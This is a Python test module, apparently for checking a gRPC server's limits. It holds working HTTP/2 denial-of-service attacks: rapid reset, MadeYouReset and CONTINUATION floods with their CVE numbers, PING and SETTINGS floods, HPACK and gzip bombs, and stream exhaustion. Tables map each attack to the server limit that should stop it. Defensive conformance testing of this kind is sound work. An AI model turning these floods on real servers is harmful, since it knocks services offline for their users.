"""The attacks of the conformance notes: what each sends, and nothing about what must come of it."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable

from raw_frames import (
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, RawConnection, fields, frame, message, settings,
)  # fmt: skip

REQUEST = fields()
WATCH = fields("/grpc.health.v1.Health/Watch")
EMPTY = message()

Attack = Callable[[str], RawConnection]


def odd(number: int) -> int:
    return 1 + 2 * number


def rapid_reset(address: str) -> RawConnection:
    """Calls that are cancelled as soon as they have been made (CVE-2023-44487)."""
    connection = RawConnection(address)

    def batch(number: int) -> bytes:
        calls = b""
        for stream in map(odd, range(number * 100, number * 100 + 100)):
            calls += frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST)
            calls += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
        return calls

    connection.flood(batch)
    return connection


def _provoking(wrong: Callable[[int], bytes]) -> Attack:
    def attack(address: str) -> RawConnection:
        connection = RawConnection(address)

        def batch(number: int) -> bytes:
            return b"".join(
                frame(HEADERS, END_HEADERS, stream, REQUEST) + wrong(stream)
                for stream in map(odd, range(number * 20, number * 20 + 20))
            )

        connection.flood(batch)
        return connection

    attack.__doc__ = "Calls whose next frame is wrong, so that the server resets them itself (CVE-2025-8671)."
    return attack


made_you_reset_window = _provoking(lambda id: frame(WINDOW_UPDATE, 0, id, struct.pack(">I", 0x7FFF_FFFF)))
made_you_reset_trailers = _provoking(lambda id: frame(HEADERS, END_HEADERS | END_STREAM, id, fields(more=[("a", "\0")])))


def continuations(address: str) -> RawConnection:
    """A header block that never ends (CVE-2024-28182)."""
    connection = RawConnection(address)
    connection.send(frame(HEADERS, 0, 1, REQUEST))
    one = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b")
    connection.flood(lambda number: one * 100)
    return connection


def pings(address: str) -> RawConnection:
    connection = RawConnection(address)
    connection.flood(lambda number: frame(PING, payload=bytes(8)))
    return connection


def pings_unread(address: str) -> RawConnection:
    """More than the server can answer to who does not read."""
    connection = RawConnection(address)
    connection.flood(lambda number: frame(PING, payload=bytes(8)) * 5_000, reads=False, batches=100)
    return connection


def settings_read(address: str) -> RawConnection:
    """SETTINGS whose acknowledgements are read."""
    connection = RawConnection(address)
    connection.flood(lambda number: settings() * 100)
    return connection


def settings_unread(address: str) -> RawConnection:
    connection = RawConnection(address)
    connection.flood(lambda number: settings() * 5_000, reads=False, batches=100)
    return connection


def settings_large(address: str) -> RawConnection:
    """One SETTINGS frame with as many entries as fit."""
    connection = RawConnection(address)
    entry = struct.pack(">HI", 4, 65_535)
    connection.flood(lambda number: frame(SETTINGS, payload=entry * (16_384 // 6)))
    return connection


def header_bomb(address: str) -> RawConnection:
    """A field of 4,000 bytes in the dynamic table, and then thousands of references to it of one byte each."""
    connection = RawConnection(address)
    value = b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4_000
    for number in range(100):
        bomb = REQUEST + (value if number == 0 else b"") + b"\xbe" * 10_000
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, odd(number), bomb))
    return connection


def many_fields(address: str) -> RawConnection:
    """Thousands of fields with next to nothing in them."""
    connection = RawConnection(address)
    for number in range(100):
        many = REQUEST + b"\x00\x01a\x00" * 3_000
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, odd(number), many))
    return connection


def large_fields(address: str) -> RawConnection:
    """A header list of 100 KB, over several CONTINUATION frames."""
    connection = RawConnection(address)
    piece = b"\x00\x01b\x7f\xe1\x7c" + b"a" * 16_096
    for number in range(100):
        connection.send(frame(HEADERS, END_STREAM, odd(number), REQUEST))
        for index in range(6):
            connection.send(frame(CONTINUATION, END_HEADERS if index == 5 else 0, odd(number), piece))
    return connection


def empty_data(address: str) -> RawConnection:
    return _data(address, frame(DATA, 0, 1))


def empty_padded_data(address: str) -> RawConnection:
    return _data(address, frame(DATA, PADDED, 1, b"\x07" + bytes(7)))


def tiny_data(address: str) -> RawConnection:
    """The bytes of one message, a frame each."""
    return _data(address, frame(DATA, 0, 1, b"\0"))


def _data(address: str, one: bytes) -> RawConnection:
    connection = RawConnection(address)
    connection.send(frame(HEADERS, END_HEADERS, 1, fields("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")))
    connection.send(frame(DATA, 0, 1, b"\0\0\x01\0\0"))
    connection.flood(lambda number: one * 100)
    return connection


def window_updates(address: str) -> RawConnection:
    connection = RawConnection(address)
    connection.flood(lambda number: frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 100)
    return connection


def priorities(address: str) -> RawConnection:
    connection = RawConnection(address)
    connection.flood(lambda number: frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 16)) * 100)
    return connection


def goodbyes(address: str) -> RawConnection:
    """GOAWAY, again and again, each of which makes the server look through all its streams."""
    connection = RawConnection(address)
    # Without a call the first one would end the connection.
    connection.send(frame(HEADERS, END_HEADERS, 1, WATCH) + frame(DATA, END_STREAM, 1, EMPTY))
    connection.flood(lambda number: frame(GOAWAY, payload=struct.pack(">II", 0, 0)) * 100)
    return connection


def resets_of_nothing(address: str) -> RawConnection:
    """RST_STREAM, again and again, of a stream that has ended."""
    connection = RawConnection(address)
    connection.send(frame(HEADERS, END_HEADERS, 1, REQUEST) + frame(DATA, END_STREAM, 1, EMPTY))
    connection.wait(lambda connection: connection.has_ended(1))
    connection.flood(lambda number: frame(RST_STREAM, 0, 1, struct.pack(">I", CANCEL)) * 100)
    return connection


def huge_message(address: str) -> RawConnection:
    """Prefixes that promise 4 GiB."""
    connection = RawConnection(address)
    for stream in map(odd, range(100)):
        connection.send(frame(HEADERS, END_HEADERS, stream, REQUEST))
        connection.send(frame(DATA, 0, stream, b"\0\xff\xff\xff\xff" + bytes(1_000)))
    return connection


def gzip_bomb(address: str) -> RawConnection:
    """Messages of 60 KB, each of which inflates to 60 MB."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(compressor.compress(bytes(1 << 20)) for _ in range(60)) + compressor.flush()
    sent = message(bomb, flag=1)
    connection = RawConnection(address)
    for stream in map(odd, range(20)):
        connection.send(frame(HEADERS, END_HEADERS, stream, fields(more=[("grpc-encoding", "gzip")])))
        pieces = [sent[start : start + 16_384] for start in range(0, len(sent), 16_384)]
        for piece in pieces:
            connection.send(frame(DATA, END_STREAM if piece is pieces[-1] else 0, stream, piece))
        connection.wait(lambda connection: connection.has_ended(stream))
        connection.send(frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)))
    return connection


def too_many_streams(address: str) -> RawConnection:
    """Calls that stay open, without end."""
    connection = RawConnection(address)
    connection.wait(lambda connection: connection.counts[SETTINGS] >= 2)
    connection.send(frame(SETTINGS, 0x1))
    connection.flood(lambda number: frame(HEADERS, END_HEADERS, odd(number), WATCH))
    return connection


# Those that the server answers by ending the connection, and the limits one of which says so.
ENDED: dict[Attack, set[str]] = {
    rapid_reset: {"streamResets", "provokedResets"},
    made_you_reset_window: {"provokedResets"},
    made_you_reset_trailers: {"provokedResets"},
    continuations: {"continuations"},
    pings: {"pingStrikes"},
    pings_unread: {"pingStrikes", "acknowledgements"},
    settings_read: {"emptyFrames", "acknowledgements"},
    settings_unread: {"acknowledgements", "emptyFrames"},
    empty_data: {"emptyFrames"},
    empty_padded_data: {"emptyFrames"},
    tiny_data: {"emptyFrames"},
    window_updates: {"emptyFrames"},
    priorities: {"emptyFrames"},
    goodbyes: {"emptyFrames"},
    resets_of_nothing: {"emptyFrames", "streamResets"},
}

# Those that end calls alone, each with the limit that says so and the number of its calls; the connection goes on.
REFUSED: dict[Attack, tuple[str, int]] = {
    many_fields: ("headerListBytes", 100),
    large_fields: ("headerListBytes", 100),
    huge_message: ("messageBytes", 100),
    gzip_bomb: ("messageBytes", 20),
}
